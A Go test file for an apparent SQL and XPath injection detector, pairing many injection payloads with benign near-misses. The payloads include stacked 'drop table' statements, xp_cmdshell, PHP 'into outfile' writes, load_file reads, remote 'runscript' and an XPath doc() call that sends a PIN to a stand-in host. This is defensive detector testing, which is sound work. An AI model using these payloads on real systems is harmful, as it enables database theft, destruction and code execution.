package sqli

import (
	"testing"

	"github.com/weirnode/weir/detect/detecttest"
	"github.com/weirnode/weir/detect/evidence"
	"github.com/weirnode/weir/point"
)

var detector = detecttest.Detector{Gate: Gate, Scan: Scan, Signs: Signs}

// TestSigns holds every sign to a value that shows it and to one that nearly does.
func TestSigns(t *testing.T) {
	f := detector.CheckSigns(t)
	f(&breakout, point.Text, `1' or 1=1--`, `O'Reilly or 1`)
	f(&parenBreakout, point.Text, `1) or (1=1`, `(a first`)
	f(&constCompare, point.Text, `1 or 1=1`, `1 or a=b`)
	f(&callCompare, point.Text, `1 and sleep(5)=0`, `1 and a=b`)
	f(&nameCompare, point.Text, `1' or name='x`, `'yes' or 'no'`)
	f(&logicConstant, point.Text, `' or 1--`, `cat or dog`)
	f(&unionSelect, point.Text, `1 union select 1,2`, `union of workers`)
	f(&selectList, point.Text, `1 union select 1,2`, `select from list`)
	f(&fromClause, point.Text, `1 union select a,2 from users`, `1 or 1=1`)
	f(&subselect, point.Text, `1 and (select count(*) from users)>0`, `options (select one)`)
	f(&stacked, point.Text, `1; drop table users`, `1; drop me a line`)
	f(&statement, point.Text, `1; delete from users`, `delete the file`)
	f(&statementGrave, point.Text, `1; exec xp_cmdshell('dir')`, `exec summary`)
	f(&timeFunction, point.Text, `1 and sleep(5)`, `sleep tight`)
	f(&graveFunction, point.Text, `1 and extractvalue(1,0x0a)`, `extract value (1)`)
	f(&infoFunction, point.Text, `1 and version()=5`, `version (2) of it`)
	f(&systemName, point.Text, `1 union select 1 from information_schema.tables`, `information schema`)
	f(&orderByNumber, point.Text, `1' order by 5--`, `order by Friday`)
	f(&having, point.Text, `1' having 1=1--`, `we are having fun`)
	f(&intoFile, point.Text, `1' into outfile '/tmp/x'--`, `into the wild`)
	f(&procedure, point.Text, `1 procedure analyse()`, `procedure analysis`)
	f(&commentEnd, point.Text, `1' or 1=1--`, `foo -- bar`)
	f(&quoteComment, point.Text, `admin'--`, `it's -- well -- fine`)
	f(&reopened, point.Text, `1' or '1'='1`, `'yes' or 'no'`)
	f(&columnList, point.Text, "email,name from users-- -", "email, name from Berlin -- see you")
	f(&columnList, point.Text, "1 * from k;--", "1 * from k; more")
	f(&columnList, point.Text, "k,l from m#", "red, blue from stock #")
	f(&unionSelect, point.Text, "k,l from m union select n,o from p", "k, l from m union")
	f(&queryEnd, point.Text, `k' or json (id);`, `it's a (b);`)
	f(&commentSpace, point.Text, `1/**/or/**/1=1/**/or/**/2=2`, `1 or 1=1`)
	f(&versioned, point.Text, `1 /*!50000union*/ select 1,2`, `1 /* note */ or 1=1`)
	f(&caseWhen, point.Text, `1' and case when 1=1 then 1 else 0 end--`, `in case when it rains`)
	f(&between, point.Text, `1' or 1 between 0 and 2--`, `between 5 and 10`)
	f(&innerCompare, point.Text, `1' and if(1=1,1,0)--`, `1' and if(a,1,0)--`)
	f(&divideByZero, point.Text, `1,iif(1=2,1,1/0)`, `1/0`)
	f(&systemVariable, point.Text, `1 and @@version=5`, `mail @@ home`)
	f(&limitClause, point.Text, `admin' limit 1--`, `'x' limit of ten`)
	f(&plainFunction, point.Text, `1' and substring(a,1,1)='a'--`, `substring (noun)`)
	f(&intoVariable, point.Text, `1' into @a--`, `'x' into a`)
	f(&callStatement, point.Text, `1'; call f(1)--`, `1'; call me`)
	f(&quoteOnly, point.Text, `'-'`, `it's - it's`)
	f(&orderByCall, point.Text, `1' order by if(1=1,a,b)--`, `1' order by 5--`)
	f(&timeFunction, point.UserAgent, `Browser/5.0 Engine/7,(select*from(select(sleep(9)))q)`, `Browser/5.0 (select*d by hand)`)
	f(&rowBreakout, point.Text, `ann','a@m.example'),('eve','e@m.example')-- `, `ann', (eve)`)
	f(&assignment, point.Text, `Oslo', role='root', active='1`, `Oslo', the town`)
	f(&syntaxProbe, point.Text, `7(.,"),'.)(`, `f('a', "b")...`)
	f(&numberGlue, point.Text, `k' 9.e(ascii 9.e(mid(9.e(select k from l)9.e,1)9.e)9.e)=7`, `see 4.e(ii) and 5.e(i), left 6.e(iv)`)
	f(&castError, point.Text, `1,cast(version() as int)`, `1,cast(price as int)`)
	f(&splitComment, point.Text, `k' or /*`, `k' /* or`)
	f(&nodeTest, point.Text, `k' or count(/*)=2 or 'j'='k`, `//td[@id='k' or count(/*)=2]`)
}

// TestFamilies holds attacks that need more than one token of context, and their near
// misses, to what must come of them.
func TestFamilies(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	// Blanks and words in other spellings.
	f(`7+and+3=4+union+select+k,l+from+m--`, true)
	f(`7'+union+select+1,2--+`, true)
	f(`pros+and+cons`, false)
	f(`7 uni%on se%lect 1,user()`, true)
	f(`a 5%off se%lect sale`, false)
	// Parentheses of a call that the value did not open.
	f(`k from now())) or 7=7--`, true)
	f(`see k)) or maybe not--`, false)
	// A quote, an operator, a number.
	f(`'-7#`, true)
	f(`k'=0='`, true)
	f(`5'-7#`, false)
	f(`k's-7`, false)
	for _, operated := range []string{`'-0 --`, `'<<0--`, `' mod 1--`, `' div 1--`, `'is null--`, `' in (0)--`, `k' notnull --`, `k' collate nocase --`, "k'collate`nocase`--", `7' regexp '.*`, `7' glob '*`, `' or 7 is 7--`, `' or k like l--`, `' or k notnull--`} {
		f(operated, true)
	}
	for _, honest := range []string{`it's = -- fine`, `rock 'n' roll -- live`, `don't -- like`, `is it notnull or isnull`, `the 'in' operator -- is used`, `k's div --`} {
		f(honest, false)
	}
	f(`   /k`, false) // blanks in front of a path are no bar
	f(`exec sp_helptext 'k'`, false)
	f(`'; exec sp_helpdb--`, true)
	f(`7 or 7-- -`, true)
	f(`7 or 8 is too many`, false)
	f(`7) or (7`, true)
	f(`(7) or (8)`, false)
	f(`7 and get_lock('k',9)`, true)
	f(`k'; set role l; --`, true)
	f(`k'; set role to be played`, false)
	f(`7 or k=0x6b6c6d`, true)
	f(`7 or k=0x10`, false)
	// The query closes the parentheses.
	f(`") or ("k")=("k`, true)
	f(`') or ('k')=('k`, true)
	f(`"the word") or ("a phrase")`, false)
	// Behind the end of a statement or of a CASE.
	f(`; or '2'='2'`, true)
	f(`; or maybe later`, false)
	f(`end and ((41=41`, true)
	f(`end and ('q' like 'q`, true)
	f(`end and start`, false)
	f(`2,(begin if (3=3) then dbms_lock.sleep(4); end if; end;)`, true)
	f(`2 (begin if you can)`, false)
	// Calculating with a comparison.
	f(`(14=15)*31`, true)
	f(`(a=b)*31`, false)
	f(`(3+4)*31`, false)
	// Cutting off the rest of the query with nothing but an operator in front.
	f(` or 1 -- `, true)
	f(`) or true--`, true)
	f(`or 1 -- the first`, false)
	f(`one or 1--`, false)
	f(`or uname like '%`, true)
	f(`or uname like 'ab%`, false)
	f(`' or '' '`, true)
	f(`'this' or 'that'`, false)
	// A whole statement whose middle is mangled.
	f(`select * from stock where id = 4.&&@ union select 1,version() -- 1`, true)
	f(`select a from b where c = '4' \<$ or 1 = 1 -- 1`, true)
	f(`select a size from the box where it is \ or ask`, false)
	f(`select current_user;`, true)
	f(`select your user;`, false)
	f(`' insert into t.user (a, b) values ('n', 'h') --`, true)
	f(`"insert into t values (1)" -- note`, false)
	f(`backup database main to disk='\\h\s\x.dat'`, true)
	f(`backup database to disk nightly`, false)
	f(`exec (@q)`, true)
	f(`exec (the one)`, false)
	f(`-4 union select 1 into @,@`, true)
	f(`) as q where 2=2 and 2=3#`, true)
	f(` as q where 2=2 and 2=3#`, true)
	f(`as you know where`, false)
	f(`sleep(7)='`, true)
	f(`sleep = '`, false)
	f(`" or ""k""=""k"`, true)
	f(` and 1=(if((load_file(char(99,58 ...`, true)
	// Spellings for filters that take something out.
	f(`1' uni/**/on sele/**/ct 1,2,3--`, true)
	f(`1' uniunionon selselectect 1,2 frfromom k--`, true)
	f(`the trade un/*x*/ion of it`, false)
	// Rarer constants, functions and statements.
	f(`1' or _utf8mb4 0x6b=_utf8mb4 'k'-- `, true)
	f(`4 and find_in_set('k',database())=0`, true)
	f(`1 or json_depth('[]')=1`, true)
	f(`3/@@version`, true)
	f(`mail@@host`, false)
	f(`1 into outfile '/var/www/k.php' lines terminated by 0x3c3f`, true)
	f(`1 and ('k','m')<=(table information_schema.tables limit 1)`, true)
	f(`7; do $k$ begin perform pg_sleep(6); end $k$`, true)
	f(`1' and 1=(select 1 from (select xmlparse(document '<'||current_database()))k)--`, true)
	f(`stock where 1=1 union select 1,2,3 -- `, true)
	f(`places where 5 or more go`, false)
	f(`k@m.example','x') on duplicate key update password='k'-- `, true)
	f(`1 and httpuritype('k').getclob()=1`, true)
	f(`1 if(1=1) select 1 else drop table k`, true)
	f(`meet @ 5 or 6`, false)
	f("# no arguments\nif (@ARGV == 0) {\n\texit 0;\n}", false)
	f(`1,(select 2)`, true)
	f(`name,(select secret from k)`, true)
	f(`'^'1`, true)
	f(`'=0#`, true)
	f(`it's = 0 # of them`, false)
	// What people write into fields for statements and programs.
	f(`select a.name, sum(b.total) from a join b on a.id = b.cid where a.land = 'IE' or a.name like 'O''%' group by 1 union all select 'all', sum(total) from b`, false)
	f(`select town from clients union select town from makers order by town;`, false)
	f(`alter table "users" add column "seen" timestamptz; create index i on "users" ("seen"); drop table if exists "old";`, false)
	f("select * from (select e.*, rownum r from emp e where rownum <= 20) where r > 10; -- for 12c", false)
	f(`rows, err := db.Query(ctx, "select id, name from users where org = $1 and gone is null order by name limit 50", org)`, false)
	f(`=QUERY(Orders!A:F; "select A, sum(F) where B = 'paid' and F > 10 group by A"; 1)`, false)
	f(`case when [Land] = 'EU' and sum([Sales]) > 1000 then 'A' else ifnull([Tier], '') end`, false)
	f(`Price gt 10 and (contains(Name,'O''Neil') or startswith(Name,'D'))`, false)
	f(`project = SHOP and status in ("To Do", Done) and (assignee = currentUser() or reporter = "o'neil") and created >= -7d order by created desc`, false)
	f("select * from `orders` order by `id` desc&pos=0", false)
	f(`we meet at 9 -- "declare what you'd drop" -- and I said: the table`, false)
	f("const q = `where ($1 = '' or o.name ilike '%' || $1 || '%')\n and (o.state = $2 or $2 = '')`", false)
	f(`d'or@example.com`, false)
	f(`d' or @k=@k-- `, true)
	// Glued to a value of any kind.
	f(`ann.b@shop.example,(select*from(select(sleep(9)))q)`, true)
	f(`red/(select version())`, true)
	f(`see (select*from(select(sleep(9)))q)`, false)
	f(`size,(select one of three)`, false)
	// Ranges of versions, and a condition of a program's query.
	f(`>=14 || 12 >=12.3`, false)
	f(`12 || 12 >=12.3`, true)
	f(`where gone = 0 or gone = 1`, false)
	// Nodes of a document.
	f(`' or string-length(//clerk[1]/pin)>4 or ''='`, true)
	f(`7 and count(//clerk)>1`, true)
	f(`see 7 and count(//clerk)`, false)
	f(`//a[@k="1" and contains(//b, "x")]`, false)
	f(`it's open or count(/docs/help) is odd`, false)
	// All of the value reads a file.
	f(`load_file('/srv/k.cnf')`, true)
	f(`LOAD_FILE(0x2f7372762f6b)`, true)
	f(`load_file(name)`, false)
	f(`readFile('/srv/k.json')`, false)
	// Symbols of programs for AND and OR, with what only SQL has.
	f(`' || clerk like '%k%`, true)
	f(`' && clerk like '%`, true)
	f(`' || clerk == 'k`, false)
	f(`'%' || clerk || '%'`, false)
}

// TestDialects holds what one database has and others have not to what must come of it.
func TestDialects(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	// Statements and functions of analytic and embedded databases.
	f(`1; install httpfs; load httpfs`, true)
	f(`1; install the app; load it`, false)
	f(`1; install numpy`, false)
	f(`trim; truncate lines`, false)
	f(`clean; unload (the) truck`, false)
	f(`now; set global goals = 3`, false)
	f(`x; runscript from here`, false)
	f(`1; unload ('select 1') to 's3://k/l'`, true)
	f(`1; unload the truck`, false)
	f(`1; runscript from 'http://h.example/k.sql'`, true)
	f(`1;create alias K as 'void k(){}'`, true)
	f(`1; create alias for me`, false)
	f(`1; create assembly k from 0x4d5a`, true)
	f(`1;truncate users`, true)
	f(`1; set global general_log=1`, true)
	f(`1; set global goals`, false)
	f(`1 union select content from read_text('/k')`, true)
	f(`1 and crdb_internal.force_error('a','b')`, true)
	f(`1 and link_schema('a','b','c','d','e','f') is null`, true)
	f(`1 union select * from stv_sessions`, true)
	f(`k'::varchar||(select 1)||'`, true)
	f(`k'::note`, false)
	f(`k'||(select array_to_string(array(select a from pg_database),','))||'`, true)
	f(`k'||(select listagg(a,',') within group (order by 1) from all_users)||'`, true)
	f(`1 union select a,2 from "SYS"."USERS" -- `, true)
	f(`5 and 1=(select first 1 rdb$relation_name from rdb$relations)`, true)
	f(`select the first 1 of them`, false)
	// Truth and calls behind a number.
	f(`0 or true`, true)
	f(`41 or ~1`, true)
	f(`41 and not 0`, true)
	f(`41 or pi()>3`, true)
	f(`41 and mod(7,2)=1`, true)
	f(`41-(length(user())>3)`, true)
	f(`41 or name like '%boss%'`, true)
	f(`1 or true colours`, false)
	f(`5 or colour like 'red'`, false)
	f(`2 or not 2b`, false)
	f(`2 or more (up to 5)`, false)
	f(`1 and f(3)=9`, false)
	f(`5 and not 6`, false)
	// Statements of any kind that a comment cuts off.
	f(`k'; listen l; --`, true)
	f(`k'); optimize table m-- -`, true)
	f(`41;prepare s from 0x53454c454354`, true)
	f(`it's; fine -- really`, false)
	f(`over'n'out--`, false)
	// Clauses and constants of one database.
	f(`k' returning (select pin from clerks)--`, true)
	f(`k' on duplicate key update pin='1'-- -`, true)
	f("k' union select{`a`user()},2-- -", true)
	f(`41 union select $k$boss$k$::text,null`, true)
	f(`garden chair' union all select login,pin,3 from staff#`, true)
	f(`k' or '{"b":2}'::jsonb ? 'b'--`, true)
	f(`41<@k:=(select min(id) from clerks)`, true)
	f(`41 or name=q'[boss]'`, true)
	f(`k' or 1=1 offset 0 fetch next 1 rows only--`, true)
	f(`k' or 1=1 group by pin with rollup limit 1#`, true)
	f(`k' and 'ab'='a' 'b' #`, true)
	f(`k' or{d '2000-01-01'}#`, true)
	f(`41 union table clerks`, true)
	f(`it's returning (maybe) on Monday`, false)
	f(`what's on duplicate keys?`, false)
	f(`$5 or $10 cash`, false)
	f(`the cat's {d: 5}`, false)
	// Operators between quotes.
	f(`boss'-'`, true)
	f(`'-''#`, true)
	f(`'<~'`, true)
	f(`7'|1#`, true)
	f(`6'-7'`, false)
	f(`rock'n'`, false)
	// Plus signs for blanks, behind quotes too.
	f(`1+union+select+1,2,3`, true)
	f(`k'or+1+rlike+1#`, true)
	f(`black+and+white`, false)
	// Packages of Oracle, blocks, arguments by name.
	f(`k';begin dbms_job.submit(what=>'x;',job=>:n);end;--`, true)
	f(`7 and utl_tcp.open_connection('h.example',25)=1`, true)
	f(`dbms_output.put_line('k')`, false)
	f(`array("or" => "1", "b" => array("c" => 1))`, false)
	f(`items.map((k) => k.id) or items.filter(k => k > 1)`, false)
	f(`k'; do 'begin perform 1; end'--`, true)
	f(`k'; do 'what you like'`, false)
	f(`k'; alter system set k='l'--`, true)
	// Casts, and what they tell.
	f(`k' or true=(1)::bool--`, true)
	f(`k' or '1'::int::bool--`, true)
	f(`1,cast(current_user as integer)`, true)
	f(`1,convert(int,db_name())`, true)
	f(`select id::text, name::varchar(20) from clients where open = true`, false)
	f(`Foo::int and Bar::text`, false)
	// Operators and constants that are words or letters.
	f(`k' or b'1'-- -`, true)
	f(`rock 'n' roll or r'b'`, false)
	f(`k' or 4 member of('[4,5]')#`, true)
	f(`the club's a member of ('the league')`, false)
	f(`k' or 'a' similar to 'a'--`, true)
	f(`k' or 'a' ~ 'a'--`, true)
	f(`k' or 1 is distinct from 2--`, true)
	f(`k' or '{}' is json--`, true)
	f(`k' or (1,1) overlaps (1,2)--`, true)
	f(`k' or xmlexists('//k' passing by ref '<k/>')--`, true)
	f(`k' or match(k) against('l')#`, true)
	f(`k' or date '2020-01-01' < now()--`, true)
	f(`k' or position('k' in 'k')=1--`, true)
	f(`date '2020-01-01' or time '10:00'`, false)
	f(`root'or(@:=1)or'`, true)
	f(`d'or (@: k)`, false)
	// The rest of an ORDER BY, and of a row.
	f(`made collate nocase limit (select length(hex(randomblob(9999))))`, true)
	f(`speed limit (select count, size)`, false)
	f(`id asc limit 1 procedure analyse(1)`, true)
	f(`price asc limit 10 offset 20`, false)
	f(`name nulls first, (select 1 from pg_sleep(3))`, true)
	f(`k', now(), 1)--`, true)
	f(`Smith', 42) -- see page 7`, false)
	// Two parameters share a statement.
	f(`-1 union /*`, true)
	f(`*/ select clerk,pin from clerks`, true)
	f(`*/select/*`, true)
	f(`k' or /*`, true)
	f(`*/5 * * * *`, false)
	f(`*/ the end`, false)
	f(`let's or /* not`, false)
	f(`-1 union select raw k from system:keyspaces k --`, true)
	f(`<button _="on click call load() then put it into #list">`, false)
}

// TestPaths holds paths of XPath that leave a predicate to what must come of them.
func TestPaths(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f(`k')] | //* | //*[('`, true)
	f(`1]/../*[1`, true)
	f(`1] or //pin[1`, true)
	f(`1] | //clerk[1`, true)
	f(`1 | //clerk`, true)
	f(`' | //clerk/pin | '`, true)
	f(`'] or //clerk[role='boss' or '`, true)
	f(`' ]/.. | k[l='`, true)
	f(`1]/parent::*/child::node()|//comment()|k[1`, true)
	f(`clerk[1]/pin | //k[''='`, true)
	f(`k'] | ../* | //l['m'='`, true)
	f(`k") ]|*|l["m"="`, true)
	f(`') or 1 mod 2 or contains(.,'k`, true)
	f(`k") and l or starts-with(m, "`, true)
	f(`k['l'] | m['n']`, false)
	f(`k'] | l and 'm`, false)
	f(`"k") or what contains(l, "m")`, false)
	f(`k's) or l's`, false)
	f(`k') contains(.,'l`, false)
	f(`k'/**/or/**/normalize-space(//pin)='l' or '`, true)
	f(`clerk | //k['l'='l']`, false)
	f(`'or(count(//pin))or'`, true)
	f(`') | //pin | ('`, true)
	f(`for(count(//pin))`, false)
	f(`2] /k [3`, false)
	f(`5 | //cdn.example/k.js`, false)
	f(`1]/a`, false)
	f(`7/8 | 9/10`, false)
	f(`it's | //k | that's`, false)
	// Conditions that are paths, bindings and comparisons of XPath 2.
	f(`k' or ../pin='m`, true)
	f(`k' or //clerk[1]/pin ne 'm`, true)
	f(`' or parent::*/pin or '`, true)
	f(`' or @*='m`, true)
	f(`k'or(//pin)or'm`, true)
	f(`' or ns:words(//pin)='m`, true)
	f(`k' and pin[starts-with(.,'4')] and 'a'='a`, true)
	f(`' or generate-id(/)!='' or '`, true)
	f(`' or some $c in //clerk satisfies $c/pin='4' or '`, true)
	f(`' or if (true()) then 1 else 0 or '`, true)
	f(`' or 1 eq 1 or '`, true)
	f(`k') return doc("m.xml")//pin, for $c in ('`, true)
	f(`41] | /descendant::pin | /m[1`, true)
	f(`0 or //pin`, true)
	f(`k']%00`, true)
	f(`//clerk[name='k' or 1=1]/pin`, true)
	f(`5 or /month`, false)
	f(`10 or ../20`, false)
	f(`5 or .5 inch`, false)
	f(`men's or //women's`, false)
	f(`it's @ann or @ben`, false)
	f(`'a' or /b/`, false)
	f(`"./a" or "./b"`, false)
	f(`it's for $5 in cash`, false)
	f(`data['a'] | data['b']`, false)
	f(`//div[contains(@class,'a') or contains(@class,'b')]`, false)
	f(`they're or @ least were equal (eq 2)`, false)
	f(`']/ancestor::*/self::node()[string()='`, true)
	f(`k' or //clerk[last()=1] or 'a'='b`, true)
	f(`k' or self::node()='`, true)
	f(`k' or doc(concat('http://h.example/',/*[1]/pin))//k or '`, true)
	f(`k' and unparsed-text('/etc/hosts') and '1`, true)
	f(`k' and codepoints(string-to-codepoints((//pin)[1]))=97 and ''='`, true)
	f(`k' and not(//clerk[@boss='k'][1]/@pin mod 2) and '1`, true)
	f(`//td[@id='k']/parent::*`, false)
	f(`a['b'] | c['d']`, false)
	f(`see 'chapter 1'] | //next`, false)
	f(`boost::self::node='x'`, false)
	f(`'clerks' and collection('k')`, false)
	f(`it's in the doc("readme") file`, false)
}

// TestNames reads names of parameters and of clients, which no query holds in quotes.
func TestNames(t *testing.T) {
	f := func(kind point.Kind, text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, kind); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f(point.Key, `filter[k') or 1`, true) // an equals sign cut it off
	f(point.Key, `k[0;update clerks set pin`, true)
	f(point.Key, `k[0;drop table l -- ]`, true)
	f(point.Key, `fields[(select pin from clerks limit 1)]`, true)
	f(point.JSONKey, `k') or 1=1--`, true)
	f(point.Key, `answers[1; 2]`, false)
	f(point.Key, `size[S (36-38) or M]`, false)
	f(point.Key, `attributes[select size]`, false)
	f(point.Key, `opt[it's ok; update settings]`, false)
	f(point.UserAgent, `41 and benchmark(5000000,md5(7))`, true)
	f(point.UserAgent, `-1 union select 1,2,3`, true)
	f(point.UserAgent, `if(now()=sysdate(),sleep(9),0)`, true)
	f(point.UserAgent, `3proxy/0.8 (Linux)`, false)
	f(point.UserAgent, `2345Explorer 10 (Windows NT 6.1)`, false)
	f(point.UserAgent, `Opera 9 (Windows; U; en) or newer`, false)
	f(point.UserAgent, `1.0 (build 5; arm64) update available`, false)
}

// TestWorstCasesEnd feeds inputs that could make a scan quadratic.
func TestWorstCasesEnd(*testing.T) {
	detector.ReadRepeated(point.Text, "1.e(", "' or /*", "*/", "'] | //a", "' or doc('", "1::int", "'a' is distinct from ", " limit (select ", "' or /a", "' or @", " or ::", "(//", "] | /", "' some $", " eq ", "'; a --", "$a$", "$$")
	detector.ReadRepeated(point.Key, "a[", "a[1;")
}

// TestPrepared reads statements with places for parameters, and attacks that have one.
func TestPrepared(t *testing.T) {
	for text, want := range map[string]bool{
		"SELECT a FROM b WHERE c = ? UNION ALL SELECT d FROM e WHERE f = ?":  false,
		"select a from b where c in (?, ?) union select d from e":            false,
		"1 UNION SELECT a FROM b WHERE 1=1 OR 2= ?":                          true,
		"update a set b = ? where c = ? returning (select d from e limit 1)": false,
	} {
		best := detector.Read(text, point.Text)
		if got := best.Score() >= evidence.Threshold; got != want {
			t.Errorf("%s scores %d", text, best.Score())
		}
	}
}
